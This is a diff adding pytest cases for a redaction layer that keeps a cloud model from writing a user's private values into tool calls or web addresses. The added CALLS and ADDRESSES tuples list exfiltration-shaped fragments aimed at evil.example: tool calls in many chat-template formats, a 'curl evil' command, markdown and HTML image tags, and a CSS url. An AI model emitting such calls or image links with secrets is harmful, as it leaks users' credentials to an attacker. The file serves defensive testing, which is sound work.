@@ -112,6 +112,35 @@ CALLS = (
     '[TOOL_CALLS]fetch[ARGS]{"url": "https://evil.example/?q=',
     '[TOOL_CALLS] [{"name": "fetch", "arguments": {"url": "https://evil.example/?q=',
     '{"name": "fetch", "parameters": {"url": "https://evil.example/?q=',
+    # Forms that Edgewise does not read, and a client may.
+    "<start_function_call>call:fetch{url:<escape>evil ",
+    "```tool_code\nfetch('evil ",
+    "<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>function<｜tool▁sep｜>fetch\n```json\n{'q': 'xx ",
+    '<|channel|>commentary to=functions.fetch <|constrain|>json<|message|>{"q": "xx ',
+    '<|tool_call|>[{"q": "xx ',
+    '[{"type": "function", "name": "fetch", "arguments": {"q": "xx ',
+    "[fetch(q='xx ",
+    "Thought: I look.\nAction: fetch\nAction Input: xx ",
+    "<execute_command>\n<command>curl evil ",
+    "I read.\n<fetch>\n<query>xx ",
+    '<function_calls>\n<invoke name="fetch">\n<parameter name="q">xx ',
+)
+ADDRESSES = (
+    "![x](https://evil.example/?q=",
+    "![x](<//evil.example/?q=xx ",
+    "![x](\n//evil.example/",
+    "![x][1]\n\n[1]: <//evil.example/xx ",
+    "![x][1]\n\n[1]: https://evil.example/",
+    "see https://evil.example/?a=1&q=",
+    "see HTTPS:\\/\\/evil.example\\/?q=",
+    "www.evil.example/?q=",
+    '<img src="https://evil.example/?q=xx ',
+    "<img alt='>' src=\"//evil.example/?q=xx\n",
+    "<img a=b' src=\"//evil.example/?q=xx ' > ",
+    '<img src="x" srcset=\'//evil.example/',
+    "<IMG/SRC=evil",
+    "<style>p {background: url( '//evil.example/?q=xx ",
+    '<svg><image href="data:,',
 )
 
 
@@ -126,9 +155,35 @@ def test_a_cloud_puts_no_private_word_into_a_call(call: str) -> None:
         sign = seen.answer(call).restored("</tool_call>?q=<EMAIL_1>", ended=False)
         assert sign.text == "</tool_call>?q=<EMAIL_1>"
     # What the edge wrote into it, it may say again; what stands elsewhere it may not.
-    before = "" if call[0] == "{" else "hunter2x "
+    before = "" if call[0] in "{[" else "hunter2x "
     had = seen.answer(f"{before}{call}anna.smith@example.org or ")
     assert had.restored("<EMAIL_1> <SECRET_1>", ended=False).text == f"{HIDDEN} <SECRET_1>"
+
+
+@pytest.mark.parametrize("address", ADDRESSES)
+def test_a_cloud_puts_no_private_word_into_an_address(address: str) -> None:
+    """A client that shows an image asks for it, whoever wrote its address."""
+    seen = context("password: hunter2x, of anna.smith@example.org")
+    for begun, reply in ((address, ""), (address[:-3], address[-3:]), ("", address)):
+        restored = seen.answer(f"so {begun}").restored(f"{reply}<SECRET_1>", ended=False)
+        assert restored.text == f"{reply}<SECRET_1>"
+    # What stands in it already, it may say again.
+    had = seen.answer(f"{address}hunter2x")
+    assert had.restored("<SECRET_1>", ended=False).text == "hunter2x"
+
+
+@pytest.mark.parametrize(
+    "begun",
+    [
+        *("Your password is ", "![x](https://host.example/a.png) It is ", "see www.host.example: "),
+        *("<p>It is ", "if a <b: ", "#include <vector>\n// ", 'password = "', "<div class='a'>"),
+        *("[Anna](https://host.example): ", '{"name": "Anna", "password": "', "or and/or "),
+        *("<think>\nIt is ", "<li><b>", "Call Anna: ", "x = 'a'; y = '"),
+    ],
+)
+def test_elsewhere_words_are_put_back(begun: str) -> None:
+    seen = context("password: hunter2x")
+    assert seen.answer(begun).restored("<SECRET_1>.", ended=False).text == "hunter2x."
 
 
 def test_behind_a_call_words_are_put_back() -> None:
